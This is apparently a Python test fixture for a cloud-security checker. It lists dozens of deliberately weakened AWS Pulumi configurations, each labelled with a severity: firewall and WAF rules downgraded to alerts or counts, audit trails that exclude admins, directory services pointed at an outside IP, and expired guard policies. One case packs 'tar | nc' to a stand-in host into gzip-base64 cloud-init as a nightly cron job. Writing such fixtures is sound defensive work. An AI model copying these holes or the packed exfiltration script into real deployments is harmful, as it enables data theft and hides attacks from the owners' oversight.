"""Attacks on AWS, of all concerns (2026-11-29, eleventh set, written blind): values in text, lists and opaque ids.

Properties by pulumi-aws 7.51.1. Read on 2026-11-29: AWS Network Firewall API Reference (StatefulRuleGroupOverride),
CodeBuild (environment certificate) and CloudTrail API Reference (AdvancedFieldSelector); all other pages as known.
"""

import base64
import gzip
import json

from ..blind import KEY, ME, TAGS, aws, document, policy, statement
from ..idioms.fourth_kubernetes import BUDGET
from . import Attack
from .cost_services import AWS, STACK
from .tenth_aws import RES, TAKEN, R, _ours

ESC = ("FJ-ESC-", "FJ-RES-", "FJ-EXP-127", "FJ-RSL-117")
WATCH = ("FJ-ESC-", "FJ-RSL-")
STRANGER = "198.51.100.7"
SCRIPT = f"#!/bin/sh\ntar c /srv/orders | nc {STRANGER} 8443\n"
PACKED = base64.b64encode(gzip.compress(SCRIPT.encode(), mtime=0)).decode()
USER_DATA = f"""#cloud-config
write_files:
  - path: /etc/cron.daily/rotate
    permissions: "0755"
    encoding: gz+b64
    content: {PACKED}
"""
DOMAIN = {"domainName": "corp.internal", "username": "join", "password": "{{resolved-at-deploy}}"}
BUILD = {"computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER",
         "image": "aws/codebuild/amazonlinux-x86_64-standard:5.0"}  # fmt: skip
TASK = json.dumps([{
    "name": "portal", "image": f"{ME}.dkr.ecr.{R}.amazonaws.com/portal@sha256:" + "a" * 64,
    "readonlyRootFilesystem": True, "user": "10001", "environmentFiles": [
        {"type": "s3", "value": "arn:aws:s3:::collector-settings/portal.env"}],
    "logConfiguration": {"logDriver": "awslogs", "options": {
        "awslogs-group": "/apps/portal", "awslogs-region": R, "awslogs-stream-prefix": "portal"}}}])  # fmt: skip

ATTACKS = (
    Attack("callers of a service are led to a stranger's machine by its registered address", RES, (
        aws("servicediscovery/Instance", {"serviceId": "srv-1", "instanceId": "orders-2", "attributes": {
            "AWS_INSTANCE_IPV4": STRANGER, "AWS_INSTANCE_PORT": "8443"}}),),
        "critical", "half of the calls of orders go there (AWS Cloud Map, RegisterInstance)"),
    Attack("what a managed group of the firewall would drop is only told", ESC, (aws("networkfirewall/FirewallPolicy", {
        "name": "edge", "tags": TAGS, "encryptionConfiguration": {"type": "CUSTOMER_KMS", "keyId": KEY},
        "firewallPolicy": {
            "statelessDefaultActions": ["aws:forward_to_sfe"], "statelessFragmentDefaultActions": [
                "aws:forward_to_sfe"], "statefulEngineOptions": {"ruleOrder": "STRICT_ORDER"},
            "statefulDefaultActions": ["aws:drop_strict"], "statefulRuleGroupReferences": [{
                "priority": 1, "override": {"action": "DROP_TO_ALERT"}, "resourceArn": f"arn:aws:network-firewall:{R}:"
                "aws-managed:stateful-rulegroup/BotNetCommandAndControlDomainsStrictOrder"}]}}),),
        "major", "malware calls home (Network Firewall, StatefulRuleGroupOverride)"),
    Attack("what no rule of the firewall names passes with a remark", ESC, (aws("networkfirewall/FirewallPolicy", {
        "name": "edge", "tags": TAGS, "encryptionConfiguration": {"type": "CUSTOMER_KMS", "keyId": KEY},
        "firewallPolicy": {
            "statelessDefaultActions": ["aws:forward_to_sfe"], "statelessFragmentDefaultActions": [
                "aws:forward_to_sfe"], "statefulEngineOptions": {"ruleOrder": "STRICT_ORDER"},
            "statefulDefaultActions": ["aws:alert_strict"], "statefulRuleGroupReferences": [{
                "priority": 1, "resourceArn": _ours("network-firewall", "stateful-rulegroup/egress")}]}}),),
        "major", "data leaves for every host (Network Firewall, 'Strict evaluation order', default actions)"),
    Attack("rules of a managed group let pass what they match", ESC, (aws("wafv2/WebAcl", {
        "name": "portal", "scope": "REGIONAL", "tags": TAGS, "defaultAction": {"allow": {}},
        "visibilityConfig": {"cloudwatchMetricsEnabled": True, "metricName": "portal", "sampledRequestsEnabled": True},
        "rules": [{
            "name": "core", "priority": 0, "overrideAction": {"none": {}}, "statement": {"managedRuleGroupStatement": {
                "name": "AWSManagedRulesSQLiRuleSet", "vendorName": "AWS", "ruleActionOverrides": [
                    {"name": "SQLi_BODY", "actionToUse": {"count": {}}},
                    {"name": "SQLi_QUERYARGUMENTS", "actionToUse": {"count": {}}}]}},
            "visibilityConfig": {"cloudwatchMetricsEnabled": True, "metricName": "core",
                                 "sampledRequestsEnabled": True}}]}),),
        "major", "injections reach the database (AWS WAF, 'Overriding rule group actions')"),
    Attack("the log of the web firewall drops what it blocks", ESC, (aws("wafv2/WebAclLoggingConfiguration", {
        "resourceArn": _ours("wafv2", "regional/webacl/portal/1111"),
        "logDestinationConfigs": [_ours("logs", "log-group:aws-waf-logs-portal")], "loggingFilter": {
            "defaultBehavior": "DROP", "filters": [{"behavior": "KEEP", "requirement": "MEETS_ALL", "conditions": [
                {"labelNameCondition": {"labelName": "awswaf:none"}}]}]}}),),
        "major", "attacks leave no trace (AWS WAF, LoggingFilter)"),
    Attack("passwords of a file server are checked where a stranger says", RES, (aws("fsx/WindowsFileSystem", {
        "throughputCapacity": 32, "subnetIds": ["subnet-1", "subnet-2"], "deploymentType": "MULTI_AZ_1",
        "preferredSubnetId": "subnet-1", "storageCapacity": 300, "kmsKeyId": KEY, "tags": TAGS,
        "automaticBackupRetentionDays": 30, "securityGroupIds": ["sg-1"],
        "auditLogConfiguration": {"fileAccessAuditLogLevel": "SUCCESS_AND_FAILURE",
                                  "auditLogDestination": _ours("logs", "log-group:/aws/fsx/files")},
        "selfManagedActiveDirectory": {**DOMAIN, "dnsIps": [STRANGER]}}),),
        "critical", "who answers for the names is the domain (Amazon FSx, 'Self-managed Active Directory')"),
    Attack("every user of the domain administers a file server", ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-126"), (
        aws("fsx/OntapStorageVirtualMachine", {
            "fileSystemId": "fs-0123456789abcdef0", "name": "files", "rootVolumeSecurityStyle": "NTFS", "tags": TAGS,
            "activeDirectoryConfiguration": {"netbiosName": "FILES", "selfManagedActiveDirectoryConfiguration": {
                **DOMAIN, "dnsIps": ["10.0.0.2"], "fileSystemAdministratorsGroup": "Domain Users"}}}),),
        "major", "each of them reads the files of all (Amazon FSx, FileSystemAdministratorsGroup)"),
    Attack("users of a database are checked where a stranger says", RES, (aws("rds/Instance", {
        "instanceClass": "db.t4g.small", "engine": "postgres", "storageEncrypted": True, "kmsKeyId": KEY, "tags": TAGS,
        "domainFqdn": "corp.internal", "domainOu": "OU=db,DC=corp,DC=internal", "domainDnsIps": [STRANGER, "10.0.0.2"],
        "domainAuthSecretArn": _ours("secretsmanager", "secret:join")}),),
        "critical", "tickets of the stranger's domain are accepted (Amazon RDS, 'Self-managed Active Directory')"),
    Attack("the audit of a database leaves its administrator out", ESC, (aws("rds/OptionGroup", {
        "name": "orders", "engineName": "mariadb", "majorEngineVersion": "10.11", "tags": TAGS, "options": [{
            "optionName": "MARIADB_AUDIT_PLUGIN", "optionSettings": [
                {"name": "SERVER_AUDIT_EVENTS", "value": "CONNECT,QUERY"},
                {"name": "SERVER_AUDIT_EXCL_USERS", "value": "admin,etl"}]}]}),),
        "major", "whoever may do everything is not seen (Amazon RDS, 'MariaDB Audit Plugin')"),
    Attack("a store of events leaves out what one role does", ESC, (aws("cloudtrail/EventDataStore", {
        "name": "audit", "kmsKeyId": KEY, "retentionPeriod": 2557, "terminationProtectionEnabled": True, "tags": TAGS,
        "advancedEventSelectors": [{"name": "all", "fieldSelectors": [
            {"field": "eventCategory", "equals": ["Management"]},
            {"field": "userIdentity.arn", "notStartsWiths": [f"arn:aws:sts::{ME}:assumed-role/deploy/"]}]}]}),),
        "major", "whoever assumes the role is not recorded (AWS CloudTrail Lake, 'Filtering by userIdentity.arn')"),
    Attack("every distribution of CloudFront reaches the servers", ("FJ-EXP-", "FJ-RES-113"), (
        aws("ec2/SecurityGroup", {
        "vpcId": "vpc-1", "description": "portal", "tags": TAGS, "ingress": [{
            "description": "edge", "protocol": "tcp", "fromPort": 443, "toPort": 443,
            "prefixListIds": ["pl-3b927c52"]}], "egress": []}),),
        "major", "anybody makes a distribution of his own with the origin (Amazon CloudFront, 'managed prefix list')"),
    Attack("a role has every bucket, table and packet copied elsewhere", ("FJ-IDN-",), (policy(statement([
        "s3:PutReplicationConfiguration", "s3:PutInventoryConfiguration", "s3:PutBucketNotification",
        "rds:StartExportTask", "ec2:CreateTrafficMirrorSession", "firehose:UpdateDestination",
        "dms:ModifyEndpoint"])),),
        "critical", f"{TAKEN} without reading it once (Service Authorization Reference)"),
    Attack("every user of the domain has the files of a partner", ("FJ-EXP-126",), (aws("transfer/Access", {
        "externalId": "S-1-5-21-1004336348-1177238915-682003330-513", "serverId": "s-0123456789abcdef0",
        "homeDirectoryType": "PATH", "homeDirectory": "/fs-0123456789abcdef0/partners",
        "role": f"arn:aws:iam::{ME}:role/files"}),),
        "major", "513 is the group Domain Users (Transfer Family, CreateAccess; Windows, 'Well-known SIDs')"),
    Attack("a machine asks for addresses of the internet by their number", ("FJ-EXP-",), (aws("ec2/Instance", {
        "ami": "ami-0123456789abcdef0", "instanceType": "t4g.small", "subnetId": "subnet-1", "ipv6AddressCount": 1,
        "associatePublicIpAddress": False, "tags": TAGS, "vpcSecurityGroupIds": ["sg-1"],
        "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1},
        "rootBlockDevice": {"encrypted": True, "kmsKeyId": KEY}}),
        aws("ec2/Route", {"routeTableId": "rtb-1", "destinationIpv6CidrBlock": "::/0", "gatewayId": "igw-1"}, "out")),
        "major", "each IPv6 address of a machine is public (Amazon EC2, 'Assign IPv6 addresses')"),
    Attack("a secret is rotated every third year, by an expression", ("FJ-ESC-", "FJ-IDN-"), (
        aws("secretsmanager/SecretRotation", {
            "secretId": _ours("secretsmanager", "secret:orders"),
            "rotationLambdaArn": _ours("lambda", "function:rotate"),
            "rotationRules": {"scheduleExpression": "rate(999 days)"}}),),
        "major", "what was stolen opens the database for years (Secrets Manager, 'Schedule expressions')"),
    Attack("a plan of backups is due in the year 2099", WATCH, (aws("backup/Plan", {
        "name": "all", "tags": TAGS, "rules": [{
            "ruleName": "daily", "targetVaultName": "vault", "schedule": "cron(0 5 1 1 ? 2099)",
            "lifecycle": {"deleteAfter": 35}}]}),),
        "major", "there is no backup (AWS Backup, 'Schedule')"),
    Attack("the guard of the organisation denies until a day that is over", ESC, (aws("organizations/Policy", {
        "name": "guard", "type": "SERVICE_CONTROL_POLICY", "tags": TAGS, "content": document(
            {"Effect": "Deny", "Action": ["cloudtrail:StopLogging", "s3:PutBucketPolicy"], "Resource": "*",
             "Condition": {"DateLessThan": {"aws:CurrentTime": "2024-01-01T00:00:00Z"}}})}),),
        "major", "nothing is denied (AWS Organizations, 'SCP syntax'; IAM, 'Date condition operators')"),
    Attack("builds trust every server that a stranger certifies", ESC, (aws("codebuild/Project", {
        "name": "portal", "serviceRole": f"arn:aws:iam::{ME}:role/build", "encryptionKey": KEY, "tags": TAGS,
        "artifacts": {"type": "NO_ARTIFACTS"}, "vpcConfig": {"vpcId": "vpc-1", "subnets": ["subnet-1"],
                                                              "securityGroupIds": ["sg-1"]},
        "source": {"type": "CODECOMMIT", "location": f"https://git-codecommit.{R}.amazonaws.com/v1/repos/portal"},
        "environment": {**BUILD, "certificate": "arn:aws:s3:::collector-authority/ca.pem"}}),),
        "critical", "packages come from whoever is in between (AWS CodeBuild, 'certificate')"),
    Attack("settings of a task are read from a stranger's bucket", ESC, (aws("ecs/TaskDefinition", {
        "family": "portal", "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc", "cpu": "256",
        "memory": "512", "containerDefinitions": TASK, "tags": TAGS,
        "executionRoleArn": f"arn:aws:iam::{ME}:role/start", "taskRoleArn": f"arn:aws:iam::{ME}:role/portal"}),),
        "critical", "the stranger sets where the program connects and what it loads (Amazon ECS, 'environmentFiles')"),
    Attack("figures of Airflow are sent to a stranger by number", RES, (aws("mwaa/Environment", {
        "name": "etl", "dagS3Path": "dags/", "executionRoleArn": f"arn:aws:iam::{ME}:role/airflow", "kmsKey": KEY,
        "sourceBucketArn": "arn:aws:s3:::awsuae-dags", "webserverAccessMode": "PRIVATE_ONLY", "tags": TAGS,
        "networkConfiguration": {"securityGroupIds": ["sg-1"], "subnetIds": ["subnet-1", "subnet-2"]},
        "airflowConfigurationOptions": {"metrics.statsd_on": "True", "metrics.statsd_host": STRANGER}}),),
        "major", "names of flows, tasks and their failures are theirs (Apache Airflow, 'Metrics')"),
    Attack("administrators of Grafana install programs of strangers", ESC, (aws("grafana/Workspace", {
        "name": "figures", "accountAccessType": "CURRENT_ACCOUNT", "authenticationProviders": ["AWS_SSO"],
        "permissionType": "CUSTOMER_MANAGED", "roleArn": f"arn:aws:iam::{ME}:role/grafana", "tags": TAGS,
        "networkAccessControl": {"prefixListIds": ["pl-0123456789abcdef0"], "vpceIds": ["vpce-1"]},
        "configuration": json.dumps({"plugins": {"pluginAdminEnabled": True}})}),),
        "minor", "a plug-in reads what each source has (Amazon Managed Grafana, 'Plugin management')"),
    Attack("a machine writes a packed script that sends the orders away", ESC, (aws("ec2/LaunchTemplate", {
        "name": "orders", "tags": TAGS, "userData": base64.b64encode(USER_DATA.encode()).decode(),
        "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1}}),),
        "critical", f"{TAKEN} each night (cloud-init, 'Write files', encoding gz+b64)"),
    Attack("a gateway of files asks a stranger's domain controllers", RES, (aws("storagegateway/Gateway", {
        "gatewayName": "files", "gatewayTimezone": "GMT+4:00", "gatewayType": "FILE_S3", "tags": TAGS,
        "activationKey": "ABCDE-12345", "smbSecurityStrategy": "MandatoryEncryption",
        "smbActiveDirectorySettings": {**DOMAIN, "domainControllers": [STRANGER]}}),),
        "critical", "the stranger says who opens the files (AWS Storage Gateway, JoinDomain)"),
    Attack("each fifth minute a job of another stack starts", ("FJ-COST-",), (STACK, AWS, BUDGET, aws("glue/Trigger", {
        "name": "often", "type": "SCHEDULED", "schedule": "cron(0/5 * * * ? *)", "tags": TAGS,
        "actions": [{"jobName": "transform-all"}]})),
        "major", "three hundred runs a day, each of hours (AWS Glue, 'Time-based schedules')"),
    Attack("notebooks open with a repository of a stranger", ESC, (aws("sagemaker/NotebookInstance", {
        "name": "claims", "instanceType": "ml.t3.medium", "roleArn": f"arn:aws:iam::{ME}:role/notebook",
        "kmsKeyId": KEY, "directInternetAccess": "Disabled", "rootAccess": "Disabled", "subnetId": "subnet-1",
        "securityGroups": ["sg-1"], "tags": TAGS, "platformIdentifier": "notebook-al2-v3",
        "instanceMetadataServiceConfiguration": {"minimumInstanceMetadataServiceVersion": "2"},
        "defaultCodeRepository": "https://github.com/collector/notebooks.git"}),),
        "major", "users run it with the notebook's role (Amazon SageMaker, 'Git repositories')"),
)  # fmt: skip
